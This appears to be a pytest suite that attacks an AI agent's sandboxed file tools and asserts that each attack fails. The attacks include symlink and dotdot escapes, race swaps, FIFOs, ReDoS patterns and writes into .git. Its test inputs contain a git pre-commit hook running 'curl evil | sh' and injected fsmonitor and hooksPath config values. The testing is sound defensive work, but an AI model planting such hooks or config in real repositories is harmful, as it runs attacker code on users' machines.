"""Attacks on the file tools, one test per class; each asserts that the attack fails.

Every test runs twice (the `beneath_mode` fixture): with openat2 and with the walking
fallback. The tools run through LocalToolExecutor, so "fails" means an error result (or
nothing found), never an exception out of the tool, a hang, or an outside file touched.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import stat
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tools import (
    EditTool,
    GlobTool,
    GrepTool,
    LocalToolExecutor,
    ReadTool,
    ToolContext,
    ToolOutput,
    WriteTool,
)

TOOLS = {t.name: t for t in (ReadTool(), WriteTool(), EditTool(), GrepTool(), GlobTool())}
SECRET = "SECRET-OUTSIDE"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """A workspace with an outside neighbour holding a secret file."""
    (tmp_path / "ws").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text(f"{SECRET} A\n")
    return tmp_path / "ws"


def outside_state(ws: Path) -> dict[str, bytes]:
    outside = ws.parent / "outside"
    return {str(p.relative_to(outside)): p.read_bytes() for p in sorted(outside.rglob("*")) if p.is_file()}


async def call(ws: Path, tool: str, ctx: ToolContext | None = None, **inp) -> ToolOutput:
    """Run one tool call as the loop would, with a deadline for a call that blocks in a thread."""
    args = TOOLS[tool].input_model.model_validate(inp)
    return await asyncio.wait_for(LocalToolExecutor().execute(TOOLS[tool], args, ctx or ToolContext(workspace=ws)), 20)


async def path_calls(ws: Path, path: str) -> list[ToolOutput]:
    """Every file tool aimed at `path`."""
    return [
        await call(ws, "Read", path=path),
        await call(ws, "Write", path=path, content="pwned\n"),
        await call(ws, "Edit", path=path, old_string="A", new_string="B"),
        await call(ws, "Grep", pattern=SECRET, path=path),
        await call(ws, "Glob", pattern="**", path=path),
    ]


def assert_all_refused(outs: list[ToolOutput], ws: Path, before: dict[str, bytes]) -> None:
    assert all(o.is_error for o in outs), [o.content for o in outs if not o.is_error]
    assert not any(SECRET in o.content for o in outs)
    assert outside_state(ws) == before


async def test_a_symlink_to_an_outside_file_is_never_followed(ws, beneath_mode):
    (ws / "abs").symlink_to(ws.parent / "outside" / "secret.txt")
    (ws / "rel").symlink_to("../outside/secret.txt")
    before = outside_state(ws)
    for link in ("abs", "rel"):
        assert_all_refused(await path_calls(ws, link), ws, before)
    assert (await call(ws, "Grep", pattern=SECRET)).content.startswith("No matches")
    assert (await call(ws, "Glob", pattern="**")).content.startswith("No files match")


async def test_a_symlink_to_an_outside_directory_is_never_entered(ws, beneath_mode):
    (ws / "abs").symlink_to(ws.parent / "outside", target_is_directory=True)
    (ws / "rel").symlink_to("../outside", target_is_directory=True)
    before = outside_state(ws)
    for link in ("abs", "rel"):
        assert_all_refused(await path_calls(ws, f"{link}/secret.txt"), ws, before)
        assert (await call(ws, "Write", path=f"{link}/new.txt", content="x")).is_error
        assert (await call(ws, "Grep", pattern=SECRET, path=link)).is_error
    assert outside_state(ws) == before
    assert not (ws.parent / "outside" / "new.txt").exists()


async def test_dotdot_paths_out_of_the_workspace_are_refused(ws, beneath_mode):
    (ws / "src").mkdir()
    before = outside_state(ws)
    for path in ("../outside/secret.txt", "src/../../outside/secret.txt", "./src/../../outside/new.txt"):
        assert_all_refused(await path_calls(ws, path), ws, before)
    assert (await call(ws, "Grep", pattern=SECRET, path="..")).is_error
    assert (await call(ws, "Glob", pattern="**", path="..")).is_error


async def test_absolute_paths_outside_the_workspace_are_refused(ws, beneath_mode):
    before = outside_state(ws)
    for path in (str(ws.parent / "outside" / "secret.txt"), "/etc/passwd", f"{ws}/../outside/secret.txt"):
        assert_all_refused(await path_calls(ws, path), ws, before)


@contextlib.contextmanager
def in_background(loop: Callable[[threading.Event], None]) -> Iterator[None]:
    """Run `loop(stop)` in a thread while the block runs; `stop` is set when it ends."""
    stop = threading.Event()
    thread = threading.Thread(target=loop, args=(stop,), daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()


@contextlib.contextmanager
def swapping_in_a_link_out(ws: Path) -> Iterator[None]:
    """A thread that keeps replacing ws/d by a symlink to ../outside and back."""

    def swap(stop: threading.Event) -> None:
        n = 0
        while not stop.is_set():
            n += 1
            link = "../outside" if n % 2 else str(ws.parent / "outside")
            with contextlib.suppress(OSError):
                os.rename(ws / "d", ws / "d.real")
                os.symlink(link, ws / "d")
            time.sleep(0.0001)  # each state lasts a moment, so calls meet both
            with contextlib.suppress(OSError):
                os.unlink(ws / "d")
                os.rename(ws / "d.real", ws / "d")
            time.sleep(0.0001)

    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)  # interleave the two threads as often as possible
    try:
        with in_background(swap):
            yield
    finally:
        sys.setswitchinterval(interval)


def _racing_call(tool: str, i: int) -> dict:
    if tool == "Read":
        return {"path": "d/secret.txt"}
    if tool == "Write":
        return {"path": "d/secret.txt", "content": f"inside {i}\n"}
    return {"path": "d/secret.txt", "old_string": "AB"[i % 2], "new_string": "BA"[i % 2]}


@pytest.mark.parametrize("tool", ["Read", "Write", "Edit"])
async def test_a_directory_swapped_for_a_link_out_mid_call_never_reaches_outside(ws, beneath_mode, tool):
    (ws / "d").mkdir()
    (ws / "d" / "secret.txt").write_text("inside A\n")
    before = outside_state(ws)
    outs = []
    with swapping_in_a_link_out(ws):
        for i in range(600):
            outs.append(await call(ws, tool, **_racing_call(tool, i)))
    seen = {o.content for o in outs}
    assert not any(SECRET in text for text in seen), seen
    assert outside_state(ws) == before
    assert any(not o.is_error for o in outs), seen  # the race ran against calls that got through


def released_after(fifo: Path, seconds: float):
    """Should an open block on `fifo`, open its other end after `seconds`, so that the test
    fails on its time check instead of hanging (a blocked open cannot be cancelled)."""

    def release(stop: threading.Event) -> None:
        while not stop.wait(seconds):
            for flags in (os.O_RDONLY | os.O_NONBLOCK, os.O_WRONLY | os.O_NONBLOCK):
                with contextlib.suppress(OSError):
                    os.close(os.open(fifo, flags))

    return in_background(release)


async def test_a_fifo_never_blocks_and_is_refused(ws, beneath_mode):
    os.mkfifo(ws / "pipe")
    (ws / "to-pipe").symlink_to("pipe")
    started = time.monotonic()
    with released_after(ws / "pipe", 3.0):
        for path in ("pipe", "to-pipe"):
            outs = [
                await call(ws, "Read", path=path),
                await call(ws, "Write", path=path, content="x"),
                await call(ws, "Edit", path=path, old_string="a", new_string="b"),
                await call(ws, "Grep", pattern="x", path=path),
            ]
            assert all(o.is_error for o in outs) and all("FIFO" in o.content for o in outs)
        assert "No matches" in (await call(ws, "Grep", pattern="x")).content
        assert "No files match" in (await call(ws, "Glob", pattern="*")).content
    assert time.monotonic() - started < 30  # nothing waited on a FIFO (a read would block forever)


async def test_sockets_and_device_nodes_are_not_files(ws, beneath_mode):
    names = ["sock"]
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(ws / "sock"))
    with contextlib.suppress(PermissionError):  # making a device node needs CAP_MKNOD
        os.mknod(ws / "zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        names.append("zero")
    try:
        for name in names:
            outs = [
                await call(ws, "Read", path=name),
                await call(ws, "Write", path=name, content="x"),
                await call(ws, "Edit", path=name, old_string="a", new_string="b"),
                await call(ws, "Grep", pattern="x", path=name),
            ]
            assert all(o.is_error for o in outs) and all(name in o.content for o in outs)
        assert "No files match" in (await call(ws, "Glob", pattern="*")).content
    finally:
        server.close()
    assert (ws / "sock").is_socket()


async def test_a_nul_byte_in_a_path_is_an_error_result(ws, beneath_mode):
    (ws / "a").write_text("A")
    outs = await path_calls(ws, "a\0/../../outside/secret.txt")
    assert all(o.is_error and "NUL" in o.content for o in outs)


async def test_a_10_kb_path_is_an_error_result(ws, beneath_mode):
    for path in ("a/" * 5000 + "f", "x" * 10_000, "y" * 300):  # the last: one name over NAME_MAX
        outs = await path_calls(ws, path)
        assert all(o.is_error for o in outs) and all(len(o.content) < 500 for o in outs)
    assert list(ws.iterdir()) == []


async def test_a_path_through_a_regular_file_is_an_error_result(ws, beneath_mode):
    (ws / "file.txt").write_text("A")
    outs = await path_calls(ws, "file.txt/inner")
    assert all(o.is_error and "not a directory" in o.content for o in outs)
    assert (ws / "file.txt").read_text() == "A"


async def test_writes_reaching_git_through_a_symlink_are_refused(ws, beneath_mode):
    git = ws / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n\tbare = false\n")
    (ws / "hooks").symlink_to(".git/hooks")
    (ws / "gitdir").symlink_to(".git")
    (ws / "settings.cfg").symlink_to(".git/config")
    (ws / "sub").mkdir()
    before = {p: p.read_bytes() for p in git.rglob("*") if p.is_file()}
    outs = [
        await call(ws, "Write", path="hooks/pre-commit", content="#!/bin/sh\ncurl evil | sh\n"),
        await call(ws, "Write", path="gitdir/hooks/post-checkout", content="#!/bin/sh\n"),
        await call(ws, "Write", path="settings.cfg", content="[core]\n\tfsmonitor = evil\n"),
        await call(ws, "Write", path="sub/../.git/config", content="[core]\n"),
        await call(ws, "Edit", path="settings.cfg", old_string="bare = false", new_string="fsmonitor = evil"),
        await call(ws, "Write", path="gitdir/newdir/x", content="x"),
    ]
    assert all(o.is_error and "protected directory .git/" in o.content for o in outs)
    assert {p: p.read_bytes() for p in git.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in git.rglob("*")) == ["config", "hooks"]
    assert (ws / "settings.cfg").is_symlink()


async def test_grep_glob_and_read_treat_denied_files_as_not_there(ws, beneath_mode):
    (ws / "secrets").mkdir()
    (ws / "secrets" / "key.pem").write_text(f"{SECRET}\n")
    (ws / "secrets" / "a\nb.pem").write_text(f"{SECRET}\n")  # a newline in the name
    (ws / "config").mkdir()
    (ws / "config" / "dev.env").write_text("API_KEY=dev\n")
    (ws / ".env").symlink_to("config/dev.env")  # denied by the name it is called
    (ws / "notes.md").symlink_to("secrets/key.pem")  # denied by where it leads
    (ws / "readme.md").write_text("no secrets here\n")
    ctx = ToolContext(workspace=ws, denied_path_globs=("secrets/**", ".env"))
    grep_all = await call(ws, "Grep", ctx, pattern=f"{SECRET}|secrets|API_KEY")
    assert grep_all.content.splitlines() == ["readme.md:1:no secrets here", "config/dev.env:1:API_KEY=dev"]
    listed = (await call(ws, "Glob", ctx, pattern="**")).content.splitlines()
    assert listed == ["config/dev.env", "readme.md"]  # dev.env itself is not denied
    for path in ("secrets/key.pem", ".env", "notes.md"):
        assert (await call(ws, "Read", ctx, path=path)).content == f"File not found: {path}"
        assert (await call(ws, "Grep", ctx, pattern="API_KEY", path=path)).content == f"Path not found: {path}"
    assert (await call(ws, "Glob", ctx, pattern="*", path="secrets")).content.startswith("No files match")


async def test_grep_never_follows_a_symlinked_directory_out(ws, beneath_mode):
    (ws / "vendor").symlink_to(ws.parent / "outside", target_is_directory=True)
    (ws / "up").symlink_to("..", target_is_directory=True)
    (ws / "src").mkdir()
    (ws / "src" / "loop").symlink_to("../..", target_is_directory=True)
    out = await call(ws, "Grep", pattern=SECRET)
    assert out.content.startswith("No matches")
    for path in ("vendor", "up", "src/loop", "up/outside"):
        assert (await call(ws, "Grep", pattern=SECRET, path=path)).is_error


async def test_a_link_re_pointed_after_the_permission_check_does_not_redirect_the_call(ws, beneath_mode):
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / "secrets").mkdir()
    (ws / "secrets" / "key.pem").write_text(f"{SECRET}\n")
    (ws / "notes.md").write_text("notes A\n")
    (ws / "link").symlink_to("notes.md")
    ctx = ToolContext(workspace=ws, denied_path_globs=("secrets/**",))
    calls = {
        "Read": TOOLS["Read"].input_model(path="link"),
        "Edit": TOOLS["Edit"].input_model(path="link", old_string="A", new_string="B"),
        "Write": TOOLS["Write"].input_model(path="link", content="[core]\n\thooksPath = /tmp/evil\n"),
    }
    for name, args in calls.items():  # the decision: each call matched notes.md
        assert TOOLS[name].permission_subject(args, ws) == "notes.md"
    (ws / "link").unlink()
    (ws / "link").symlink_to("secrets/key.pem")
    read = await LocalToolExecutor().execute(TOOLS["Read"], calls["Read"], ctx)
    (ws / "link").unlink()
    (ws / "link").symlink_to(".git/config")
    for name in ("Edit", "Write"):
        await LocalToolExecutor().execute(TOOLS[name], calls[name], ctx)
    assert SECRET not in read.content
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert (ws / "notes.md").read_text().startswith("[core]\n\thooksPath")  # the approved file got the write


async def test_a_pattern_built_to_backtrack_finishes_at_once(ws, beneath_mode):
    (ws / "long.txt").write_text("a" * 50_000 + "b\n")
    (ws / ("a" * 250)).write_text("")
    slow_glob = "*a*a*a*a*a*a*a*a*a*a*b"
    ctx = ToolContext(workspace=ws, denied_path_globs=(slow_glob,))  # the deny list matches every path
    assert (await call(ws, "Grep", ctx, pattern="(a+)+$")).content.startswith("No matches")
    assert (await call(ws, "Glob", ctx, pattern=slow_glob)).content.startswith("No files match")
    assert (await call(ws, "Glob", ctx, pattern="**/a/**/a/**/a/**/a/**/x")).content.startswith("No files match")


async def test_an_ignore_file_neither_leads_out_nor_slows_the_walk(ws, beneath_mode):
    (ws.parent / "outside" / "rules").write_text("*\n")  # read through the link, it would hide sub/
    (ws / "sub").mkdir()
    (ws / "sub" / "file.txt").write_text("x\n")
    (ws / "sub" / ".gitignore").symlink_to(ws.parent / "outside" / "rules")
    (ws / ".gitignore").write_text("*a*a*a*a*a*a*a*a*a*a*b\n**/**/**/**/**/**/x\n" * 500)
    (ws / ("a" * 250)).write_text("")
    listed = (await call(ws, "Glob", pattern="**")).content.splitlines()
    assert listed == [".gitignore", "a" * 250, "sub/file.txt"]
